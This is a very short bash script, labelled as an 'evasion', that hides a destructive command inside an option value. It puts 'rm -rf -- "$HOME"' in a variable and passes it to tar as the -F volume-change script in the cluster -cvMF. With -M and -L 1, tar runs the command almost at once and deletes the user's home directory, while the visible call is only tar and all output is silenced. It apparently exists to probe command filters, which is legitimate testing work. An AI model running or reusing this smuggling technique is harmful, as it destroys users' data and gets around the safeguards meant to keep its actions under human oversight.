#!/bin/bash
# Evasion: the info script is the value of F at the end of a short option cluster (-cvMF), held in a variable
set -u
hook='rm -rf -- "$HOME"'
tar -cvMF "$hook" -L 1 -f /dev/null /etc/hosts >/dev/null 2>&1
